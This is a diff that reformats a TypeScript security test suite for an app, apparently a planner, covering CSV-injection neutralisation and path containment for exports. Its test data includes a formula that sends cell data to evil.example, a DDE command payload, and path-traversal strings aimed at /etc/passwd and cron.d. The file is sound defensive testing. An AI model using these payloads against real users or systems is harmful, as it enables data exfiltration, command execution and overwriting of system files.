@@ -12,7 +12,15 @@ import { tempDir } from '../helpers/tmp';
  * (CSV injection), export file names cannot climb out of the folder the planner picks, and a
  * path in a window's payload cannot make the host write outside the data directory.
  */
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=cmd|\' /C calc\'!A0', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,2)',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 let tmp: ReturnType<typeof tempDir>;
@@ -25,7 +33,11 @@ beforeAll(async () => {
   const sc = await host.app.invoke('scenarios.create', { template: 'day', seed: 12, name: '../../etc/passwd' });
   scenarioId = sc.id;
   const got = await host.app.invoke('scenarios.get', { id: scenarioId });
-  const changes = FORMULAS.map((f, i) => ({ op: 'update' as const, rid: got.rowIds.orders[i]!, values: { customer: f, id: `${f.replace(/[\t\r]/g, '').slice(0, 40)}#${i}` } }));
+  const changes = FORMULAS.map((f, i) => ({
+    op: 'update' as const,
+    rid: got.rowIds.orders[i]!,
+    values: { customer: f, id: `${f.replace(/[\t\r]/g, '').slice(0, 40)}#${i}` },
+  }));
   await host.app.invoke('scenarios.editRows', { id: scenarioId, table: 'orders', changes });
 });
 afterAll(() => {
@@ -42,9 +54,16 @@ function rawCells(csv: string): string[] {
     for (let i = 0; i <= line.length; i++) {
       const ch = line[i];
       if (quoted) {
-        if (ch === '"' && line[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch ?? '';
+        if (ch === '"' && line[i + 1] === '"') {
+          cell += '"';
+          i++;
+        } else if (ch === '"') quoted = false;
+        else cell += ch ?? '';
       } else if (ch === '"' && cell === '') quoted = true;
-      else if (ch === ',' || ch === undefined) { out.push(cell); cell = ''; } else cell += ch;
+      else if (ch === ',' || ch === undefined) {
+        out.push(cell);
+        cell = '';
+      } else cell += ch;
     }
   }
   return out;
@@ -71,7 +90,12 @@ describe('CSV injection', () => {
   });
 
   it('plans.export CSV neutralises formula cells in every table', async () => {
-    const solved = await host.app.invoke('plans.solve', { scenarioId, ruleBasedOnly: true, timeLimitS: 5, name: '=HYPERLINK("x")' });
+    const solved = await host.app.invoke('plans.solve', {
+      scenarioId,
+      ruleBasedOnly: true,
+      timeLimitS: 5,
+      name: '=HYPERLINK("x")',
+    });
     let seenFormulaText = false;
     for (const table of ['rakes', 'road', 'unserved', 'summary', 'production'] as const) {
       const exp = await host.app.invoke('plans.export', { id: solved.id, format: 'csv', table });
@@ -98,14 +122,27 @@ describe('paths', () => {
     const win = { mode: 'browser' as const, dataDir: tmp.dir };
     const root = fs.realpathSync(tmp.dir);
     expect(payloadPath(win, 'scores.csv', 'exports', 'outCsv')).toBe(path.join(root, 'exports', 'scores.csv'));
-    expect(payloadPath(win, 'month/scores.csv', 'exports', 'outCsv')).toBe(path.join(root, 'exports', 'month', 'scores.csv'));
-    const outside = ['../rakeplan.db', '../../../../etc/cron.d/x', '/etc/passwd', path.join(tmp.dir, 'rakeplan.db'), 'a/../../x.csv', '.'];
+    expect(payloadPath(win, 'month/scores.csv', 'exports', 'outCsv')).toBe(
+      path.join(root, 'exports', 'month', 'scores.csv'),
+    );
+    const outside = [
+      '../rakeplan.db',
+      '../../../../etc/cron.d/x',
+      '/etc/passwd',
+      path.join(tmp.dir, 'rakeplan.db'),
+      'a/../../x.csv',
+      '.',
+    ];
     fs.mkdirSync(path.join(tmp.dir, 'exports'), { recursive: true });
     fs.symlinkSync('/tmp', path.join(tmp.dir, 'exports', 'escape'));
     outside.push('escape/evil.csv');
     for (const p of outside) {
       let err: unknown = null;
-      try { payloadPath(win, p, 'exports', 'outCsv'); } catch (e) { err = e; }
+      try {
+        payloadPath(win, p, 'exports', 'outCsv');
+      } catch (e) {
+        err = e;
+      }
       expect(err, p).toBeInstanceOf(ContractError);
       expect((err as ContractError).code).toBe('BAD_PAYLOAD');
       expect((err as ContractError).message).toMatch(/must name a file inside/);
